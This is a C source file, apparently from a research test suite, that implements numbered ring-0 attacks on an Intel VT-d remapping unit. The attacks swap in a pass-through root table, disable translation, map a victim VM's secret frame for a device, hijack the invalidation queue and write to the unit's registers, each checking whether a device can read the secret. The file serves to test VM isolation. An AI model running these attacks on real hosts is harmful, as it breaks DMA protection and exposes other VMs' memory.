// SPDX-License-Identifier: GPL-2.0
/*
 * Ring 0 against the remapping unit that keeps the device from memory: its registers, its
 * tables and its queue (VT-d specification 4.1, chapters 6, 9 and 11).  What is changed is
 * put back: Linux's driver goes on with the unit.
 */
#define _GNU_SOURCE
#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>
#include "attack.h"
#include "edu.h"

#define DMAR		"/sys/firmware/acpi/tables/DMAR"
#define DMAR_BASE	(48 + 8)	/* of the first unit, in its table */

#define CAP		0x08
#define GCMD		0x18
#define GSTS		0x1c
#define RTADDR		0x20
#define FSTS		0x34
#define IQH		0x80
#define IQT		0x88
#define IQA		0x90

#define TE		(1u << 31)
#define SRTP		(1u << 30)
#define QIE		(1u << 26)
#define KEPT		(TE | QIE | 1u << 25 | 1u << 23)
#define QUEUE_ERROR	0x10u
#define CAP_48_BITS	(1u << 10)
#define PRESENT		1u
#define PASS_THROUGH	(2u << 2)
#define READ_WRITE	3u
#define LARGE		(1u << 7)
#define OWN_DOMAIN	77u
#define WAIT_STATUS	(5u | 1u << 5)
#define WAIT_ONLY	5u
#define DESCRIPTOR	16u
#define ENTRIES		(PAGE / DESCRIPTOR)
#define QUEUE_MS	2000

#define MARK		0x5e5e5e5eu
#define EVIL		0x6161616161616161ULL

static uint64_t base(void)
{
	static uint64_t at;
	int fd;

	if (at)
		return at;
	fd = open(DMAR, O_RDONLY);
	if (fd < 0 || pread(fd, &at, sizeof(at), DMAR_BASE) != sizeof(at))
		err(1, DMAR);
	close(fd);
	return at;
}

static uint64_t reg(struct atk_reg r)
{
	r.pa += base();
	if (ioctl(attack_fd, ATK_REG, &r))
		err(1, "ATK_REG");
	return r.val;
}

static uint32_t get32(uint64_t at)
{
	return (uint32_t)reg((struct atk_reg){ .pa = at, .bytes = 4 });
}

static uint64_t get64(uint64_t at)
{
	return reg((struct atk_reg){ .pa = at, .bytes = 8 });
}

static void set32(uint64_t at, uint32_t val)
{
	reg((struct atk_reg){ .pa = at, .bytes = 4, .write = 1, .val = val });
}

static void set64(uint64_t at, uint64_t val)
{
	reg((struct atk_reg){ .pa = at, .bytes = 8, .write = 1, .val = val });
}

static bool finds_secret(struct victim *v)
{
	return device_finds_secret(v, pfn_of(v, SECRET_GPA) * PAGE);
}

/* --- tables ------------------------------------------------------------------------ */

/* What a context entry says of the widest tables: 4 levels, or 3. */
static unsigned int width(void)
{
	return get64(CAP) & CAP_48_BITS ? 2 : 1;
}

/* A root table by which every device passes through. */
static uint64_t pass_all(void)
{
	uint64_t root = module_page() * PAGE, context = module_page() * PAGE;
	uint64_t r[512], c[512];
	unsigned int i;

	for (i = 0; i < 512; i += 2) {
		r[i] = context | PRESENT;
		c[i] = PASS_THROUGH | PRESENT;
		c[i + 1] = 1 << 8 | width();
		r[i + 1] = 0;
	}
	mem_write(context, c, PAGE, ATK_DIRECT);
	mem_write(root, r, PAGE, ATK_DIRECT);
	return root;
}

/* A second-level table has @pa at its own address, by an entry of @leaf's level (1: 4 KiB). */
static void identity(uint64_t table, unsigned int level, uint64_t pa, unsigned int leaf)
{
	for (;; level--) {
		unsigned int shift = 12 + 9 * (level - 1);
		uint64_t slot = table + (pa >> shift & 511) * 8, entry = 0;

		if (level == leaf) {
			entry = (pa & -(1ULL << shift)) | READ_WRITE | (leaf > 1 ? LARGE : 0);
			mem_write(slot, &entry, sizeof(entry), ATK_DIRECT);
			return;
		}
		mem_read(slot, &entry, sizeof(entry), ATK_DIRECT);
		if (!entry)
			entry = module_page() * PAGE | READ_WRITE;
		mem_write(slot, &entry, sizeof(entry), ATK_DIRECT);
		table = entry & -(uint64_t)PAGE;
	}
}

/* Like @was, or an empty one; with a page that differs in @n words from @at on. */
static uint64_t table_like(uint64_t was, uint64_t at, const uint64_t *words, size_t n)
{
	uint64_t page = module_page() * PAGE;
	uint64_t copy[512] = { 0 };

	if (was & PRESENT)
		mem_read(was & -(uint64_t)PAGE, copy, PAGE, ATK_DIRECT);
	memcpy(copy + at, words, n * sizeof(*words));
	mem_write(page, copy, PAGE, ATK_DIRECT);
	return page;
}

/* Linux's root table, but that the device has @tables. */
static uint64_t root_with(uint64_t linuxs, uint64_t tables)
{
	unsigned int rid = device_rid();
	uint64_t context = 0, entry[2] = { tables | PRESENT, OWN_DOMAIN << 8 | width() };

	linuxs &= -(uint64_t)PAGE;
	if (linuxs)
		mem_read(linuxs + (rid >> 8) * 16, &context, sizeof(context), ATK_DIRECT);
	context = table_like(context, (rid & 0xff) * 2, entry, 2) | PRESENT;
	return table_like(linuxs ? linuxs | PRESENT : 0, (rid >> 8) * 2, &context, 1);
}

static void load_root(uint64_t root)
{
	set64(RTADDR, root);
	set32(GCMD, (get32(GSTS) & KEPT) | SRTP);
}

static bool new_root(struct victim *v)
{
	uint64_t was = get64(RTADDR);
	bool hit;

	load_root(pass_all());
	note("the root table is said to be at %#lx", get64(RTADDR));
	hit = finds_secret(v);
	load_root(was);
	return hit;
}

/* The VM's frame and the page that the device brings it to are mapped for it as Linux would. */
static bool mapped(struct victim *v, unsigned int leaf)
{
	uint64_t was = get64(RTADDR), tables = module_page() * PAGE;
	bool hit;

	identity(tables, width() + 2, pfn_of(v, SECRET_GPA) * PAGE, leaf);
	identity(tables, width() + 2, device_page(), 1);
	load_root(root_with(was, tables));
	hit = finds_secret(v);
	note("the secret is %sfound", hit ? "" : "not ");
	load_root(was);
	return hit;
}

static bool mapped_small(struct victim *v)
{
	return mapped(v, 1);
}

static bool mapped_large(struct victim *v)
{
	return mapped(v, 2);
}

static bool switched_off(struct victim *v)
{
	uint32_t was = get32(GSTS);
	bool hit;

	set32(GCMD, was & KEPT & ~TE);
	hit = finds_secret(v);
	if (was & TE)
		set32(GCMD, was & KEPT);
	return hit;
}

/* --- the queue ------------------------------------------------------------------------ */

static bool queue_gets_to(uint64_t at)
{
	uint64_t end = now_ms() + QUEUE_MS;

	while (get64(IQH) != at && now_ms() < end && !(get32(FSTS) & QUEUE_ERROR))
		nap(1);
	return get64(IQH) == at;
}

static void queue_at(uint64_t iqa)
{
	set32(GCMD, get32(GSTS) & KEPT & ~QIE);
	set32(FSTS, QUEUE_ERROR);
	set64(IQT, 0);
	set64(IQA, iqa);
	set32(GCMD, (get32(GSTS) & KEPT) | QIE);
}

/* Linux's own queue again, where it was: what is passed on the way there orders nothing. */
static void queue_back(uint64_t iqa, uint64_t tail)
{
	uint64_t was[512], none[512] = { 0 };
	unsigned int i;

	for (i = 0; i < ENTRIES; i++)
		none[2 * i] = WAIT_ONLY;
	mem_read(iqa & -(uint64_t)PAGE, was, PAGE, ATK_DIRECT);
	mem_write(iqa & -(uint64_t)PAGE, none, PAGE, ATK_DIRECT);
	queue_at(iqa);
	set64(IQT, tail);
	if (!queue_gets_to(tail))
		note("the queue does not get back to %#lx", tail);
	mem_write(iqa & -(uint64_t)PAGE, was, PAGE, ATK_DIRECT);
}

/* A wait descriptor that has the unit write a word to @pa.  Return: it was obeyed */
static bool unit_writes(uint64_t pa)
{
	uint64_t iqa = get64(IQA), tail = get64(IQT), queue = module_page() * PAGE;
	uint64_t wait[2] = { WAIT_STATUS | (uint64_t)MARK << 32, pa };
	bool done;

	mem_write(queue, wait, sizeof(wait), ATK_DIRECT);
	queue_at(queue);
	set64(IQT, DESCRIPTOR);
	done = queue_gets_to(DESCRIPTOR);
	queue_back(iqa, tail);
	return done;
}

static bool wait_to_vm(struct victim *v)
{
	bool done = unit_writes(pfn_of(v, SECRET_GPA) * PAGE);

	return disturbed(v) || done;
}

static bool wait_to_layer(struct victim *v)
{
	uint64_t page = module_page() * PAGE;
	unsigned int i, n = v->protected ? layer_pfns : 1;
	uint32_t word = 0;
	bool done = false;

	for (i = 0; i < n && !done; i += 8)
		done = unit_writes(v->protected ? layer_pfn[i] * PAGE : page);
	if (v->protected)
		return done || !n;
	mem_read(page, &word, sizeof(word), ATK_DIRECT);
	return done && word == MARK;
}

/* --- frames -------------------------------------------------------------------------- */

/* The device has read the frame, and the unit may remember it, when it becomes a VM's. */
static bool remembered(struct victim *v)
{
	struct victim *late = victim_start(false, false, 1, &v->sh->half);
	uint64_t pa = pfn_of(late, SECRET_GPA) * PAGE, dirty;
	bool hit;

	victim_pause(v);
	if (device_finds_secret(late, pa))
		note("the secret is there before the VM runs");
	if (v->protected) {
		victim_protect(late);
		victim_frames(late);	/* those that it had not touched */
	}
	victim_resume(late);
	if (!victim_well(late, 2))
		note("the VM is not well from the start");
	hit = device_finds_secret(late, pa);
	note("the secret is %sfound", hit ? "" : "not ");
	dirty = late->protected ? victim_release(late) : 0;
	if (dirty)
		note("%lu frames came back not zeroed", dirty);
	hit |= !!dirty;
	victim_kill(late);
	victim_resume(v);
	return hit;
}

static bool firmware_read(struct victim *v)
{
	uint64_t *got = device_read(v->pfn[RAM_PAGES + ROM_PAGES - 1] * PAGE);
	unsigned int i, some = 0;

	for (i = 0; i < EDU_BYTES / 8; i++)
		some += got[i] && got[i] != ~0ULL;
	return some;
}

/* The registers themselves: the unit would have a root table of the attacker's. */
static bool registers_written(struct victim *v)
{
	uint64_t was = get64(RTADDR);
	bool hit;

	device_write(base(), v->protected ? EVIL : 0);
	hit = finds_secret(v) || get64(RTADDR) != was;
	return hit;
}

const struct attack unit_attacks[] = {
	{ 183, "a root table of the attacker's", new_root, DEVICE },
	{ 184, "translation switched off", switched_off, DEVICE },
	{ 185, "the unit writes to the VM's frame for a wait descriptor", wait_to_vm,
	  DEVICE | TAINTS },
	{ 186, "the unit writes to the layer's frames for a wait descriptor", wait_to_layer,
	  DEVICE },
	{ 187, "a device reads a frame that it has read before it was a VM's", remembered, DEVICE },
	{ 188, "a device reads the VM's firmware", firmware_read, DEVICE },
	{ 189, "a device writes to the unit's registers", registers_written, DEVICE },
	{ 190, "tables that map the VM's frame for the device", mapped_small, DEVICE },
	{ 191, "tables that map 2 MiB with the VM's frame", mapped_large, DEVICE },
	{ 0 }
};
